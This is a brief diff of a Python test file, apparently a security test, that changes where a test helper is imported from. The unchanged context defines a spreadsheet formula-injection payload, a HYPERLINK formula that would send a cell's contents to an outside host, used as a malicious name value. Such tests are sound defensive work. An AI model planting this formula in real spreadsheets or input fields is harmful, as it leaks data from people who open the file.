@@ -10,9 +10,9 @@ import random
 
 from openpyxl import load_workbook
 
-from tests.security.conftest import World
 from tests.support.approvals import StepApprovers
 from tests.support.client import Client, unique
+from tests.support.world import World
 
 FORMULA_NAME = '=HYPERLINK("http://x/?d="&C2,"详情")'
 
